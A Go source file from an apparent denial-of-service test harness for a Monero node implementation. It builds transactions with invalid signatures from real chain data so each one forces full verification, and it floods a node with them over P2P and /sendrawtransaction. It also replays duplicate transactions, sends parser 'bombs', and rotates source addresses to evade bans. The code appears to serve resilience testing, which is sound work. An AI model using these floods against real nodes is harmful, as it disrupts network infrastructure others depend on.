package main

import (
	"bytes"
	"context"
	crand "crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"github.com/gonero/gonero/crypto"
	"github.com/gonero/gonero/cryptonote"
	"github.com/gonero/gonero/internal/rpcbombs"
	"github.com/gonero/gonero/levin"
	"github.com/gonero/gonero/portable"
)

// The transaction attacks of issue 33 (round two): transactions that cost
// the node a full verification and fail at its end (real ring members and
// proofs, fresh key images, bad signatures), over P2P and over
// /sendrawtransaction; the same transactions again and again over P2P.

// realTxs are the heavy chain's last transactions (f.txs, up to 100) with
// RingCT inputs, as read once from a node's /get_transactions and parsed
// (both nodes serve the same chain).
var (
	chainTxsMu  sync.Mutex
	chainTxsGot []*cryptonote.Transaction
)

func realTxs(n *node, f *facts) ([]*cryptonote.Transaction, error) {
	chainTxsMu.Lock()
	defer chainTxsMu.Unlock()
	if chainTxsGot != nil {
		return chainTxsGot, nil
	}
	body, _ := json.Marshal(map[string]any{"txs_hashes": f.txs, "decode_as_json": false})
	c := &http.Client{Timeout: 60 * time.Second}
	resp, err := c.Post(n.url()+"/get_transactions", "application/json", bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	var out struct {
		Status   string   `json:"status"`
		TxsAsHex []string `json:"txs_as_hex"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		return nil, fmt.Errorf("get_transactions: %w", err)
	}
	var txs []*cryptonote.Transaction
	for _, h := range out.TxsAsHex {
		b, err := hex.DecodeString(h)
		if err != nil {
			return nil, err
		}
		tx, err := cryptonote.ParseTransaction(b)
		if err != nil {
			return nil, fmt.Errorf("chain transaction: %w", err)
		}
		if tx.Rct != nil && len(tx.Inputs) > 0 {
			txs = append(txs, tx)
		}
	}
	if len(txs) == 0 {
		return nil, fmt.Errorf("get_transactions (%s): no RingCT transaction among %d", out.Status, len(out.TxsAsHex))
	}
	chainTxsGot = txs
	return txs, nil
}

// keyImagePoints are 4,096 points of the prime-order subgroup (Hp of random
// bytes, as a real key image x·Hp(P) is one): key images that pass the
// domain check and that no chain or pool has spent.
var keyImagePoints = sync.OnceValue(func() [][32]byte {
	pts := make([][32]byte, 4096)
	for i := range pts {
		var seed [32]byte
		_, _ = crand.Read(seed[:])
		p, err := crypto.HashToEC(seed[:])
		if err != nil {
			panic(err)
		}
		copy(pts[i][:], p.Bytes())
	}
	return pts
})

// badSigTx is a real chain transaction (its ring members real outputs, its
// range proofs valid, its fee paid) whose key images are replaced by
// unspent-looking ones, sorted as consensus wants them (descending): a node
// must look up the rings and verify the proofs and signatures to refuse it,
// and the signatures fail (they sign the old key images and prefix). Each
// call gives a new transaction id.
func badSigTx(txs []*cryptonote.Transaction, rng *rand.Rand) []byte {
	src := txs[rng.IntN(len(txs))]
	pts := keyImagePoints()
	kis := make([][32]byte, len(src.Inputs))
	start := rng.IntN(len(pts))
	for i := range kis {
		kis[i] = pts[(start+i)%len(pts)]
	}
	slices.SortFunc(kis, func(a, b [32]byte) int { return bytes.Compare(b[:], a[:]) })
	tx := *src
	tx.Inputs = make([]cryptonote.TxIn, len(src.Inputs))
	for i, in := range src.Inputs {
		if k, ok := in.(cryptonote.TxInToKey); ok {
			k.KeyImage = cryptonote.Key(kis[i])
			tx.Inputs[i] = k
			continue
		}
		tx.Inputs[i] = in
	}
	return tx.Serialize()
}

// newTxsMessage frames blobs as a NOTIFY_NEW_TRANSACTIONS (fluff).
func newTxsMessage(blobs [][]byte) []byte {
	b, err := portable.Marshal(portable.NewTransactions{Txs: blobs})
	if err != nil {
		panic(err)
	}
	msg, err := levin.AppendMessage(nil, levin.Message{Kind: levin.KindNotification, Command: levin.NotifyNewTransactions, Body: b})
	if err != nil {
		panic(err)
	}
	return msg
}

// p2pTxFlood has p2pPeers peers handshake and send NOTIFY_NEW_TRANSACTIONS
// messages made by next, one after another as fast as the node takes them.
// A peer dropped (or refused: a ban) reconnects at once from the next
// address of the attack's /16, so that a ban costs the attacker nothing.
func p2pTxFlood(next func(rng *rand.Rand) []byte, what string) func(ctx context.Context, n *node, f *facts) string {
	return func(ctx context.Context, n *node, f *facts) string {
		var conns, refused, msgs, sent, addr atomic.Int64
		workers(ctx, p2pPeers, false, func(ctx context.Context, i int) {
			rng := rand.New(rand.NewPCG(uint64(i), uint64(time.Now().UnixNano())))
			c, _, err := p2pHandshake(ctx, n, f, attackerAddr(ctx, int(addr.Add(1)), 64000), rand.Uint64())
			if err != nil {
				refused.Add(1)
				select {
				case <-ctx.Done():
				case <-time.After(20 * time.Millisecond):
				}
				return
			}
			defer c.Close()
			conns.Add(1)
			go holdUntilClosed(ctx, c)
			for ctx.Err() == nil {
				msg := next(rng)
				_ = c.SetWriteDeadline(time.Now().Add(30 * time.Second))
				k, err := c.Write(msg)
				sent.Add(int64(k))
				if err != nil {
					return
				}
				msgs.Add(1)
			}
		})
		return fmt.Sprintf("%d connections (%d failed), %d messages of %s sent (%.1f MB)", conns.Load(), refused.Load(), msgs.Load(), what,
			float64(sent.Load())/1e6)
	}
}

// p2pBadSigTxs relays badSigTx transactions, 4 a message.
func p2pBadSigTxs(ctx context.Context, n *node, f *facts) string {
	txs, err := realTxs(n, f)
	if err != nil {
		return "chain transactions: " + err.Error()
	}
	return p2pTxFlood(func(rng *rand.Rand) []byte {
		blobs := make([][]byte, 4)
		for i := range blobs {
			blobs[i] = badSigTx(txs, rng)
		}
		return newTxsMessage(blobs)
	}, "4 bad-signature transactions")(ctx, n, f)
}

// p2pDupTxs relays the same transactions again and again: even peers the
// chain's last 20 transactions (valid, already mined), odd peers one fixed
// bad-signature transaction (the same id every time: a node that remembers
// a refused id refuses it for nothing).
func p2pDupTxs(ctx context.Context, n *node, f *facts) string {
	txs, err := realTxs(n, f)
	if err != nil {
		return "chain transactions: " + err.Error()
	}
	var mined [][]byte
	for _, tx := range txs[:min(len(txs), 20)] {
		mined = append(mined, tx.Serialize())
	}
	minedMsg := newTxsMessage(mined)
	badMsg := newTxsMessage([][]byte{badSigTx(txs, rand.New(rand.NewPCG(7, 7)))})
	var k atomic.Int64
	return p2pTxFlood(func(*rand.Rand) []byte {
		if k.Add(1)%2 == 0 {
			return minedMsg
		}
		return badMsg
	}, "duplicate transactions (20 mined ones, or one bad-signature one)")(ctx, n, f)
}

// invalidTxRequests: /sendrawtransaction of bad-signature transactions (a
// full verification each), 64 of them per connection, cycled.
func invalidTxRequests(n *node) func(f *facts, rng *rand.Rand) []request {
	return func(f *facts, rng *rand.Rand) []request {
		txs, err := realTxs(n, f)
		if err != nil {
			return []request{{path: "/sendrawtransaction", body: []byte(`{"tx_as_hex":"00"}`)}}
		}
		rs := make([]request, 64)
		for i := range rs {
			body, _ := json.Marshal(map[string]any{"tx_as_hex": hex.EncodeToString(badSigTx(txs, rng)), "do_not_relay": false})
			rs[i] = request{path: "/sendrawtransaction", body: body}
		}
		return rs
	}
}

// rpcInvalidTxs: 50 keep-alive connections from 50 addresses (half
// monerod's 100-connection cap: the cost measured is the verification's,
// not the cap's) post
// bad-signature transactions to /sendrawtransaction in a loop (issue 33:
// monerod's p99 2.4 s).
func rpcInvalidTxs(ctx context.Context, n *node, f *facts) string {
	if _, err := realTxs(n, f); err != nil {
		return "chain transactions: " + err.Error()
	}
	return requestFlood(50, 1, invalidTxRequests(n))(ctx, n, f)
}

// ---- JSON and epee bombs -----------------------------------------------------------------------------

// bombs are rpcbombs' bodies (those that cost a parser the most per byte,
// just under the size limit) and one just over it. Built once (megabytes
// each), shared by every connection.
var bombs = sync.OnceValue(func() []request {
	var out []request
	for _, b := range append(rpcbombs.Build(), rpcbombs.OverLimit()) {
		out = append(out, request{path: b.Path, body: b.Body, bin: b.Bin})
	}
	return out
})

// rpcBombs: 50 keep-alive connections from 50 addresses post the bombs in
// a loop, each as soon as the last is answered.
func rpcBombs(ctx context.Context, n *node, f *facts) string {
	return requestFlood(50, 1, func(*facts, *rand.Rand) []request { return bombs() })(ctx, n, f)
}
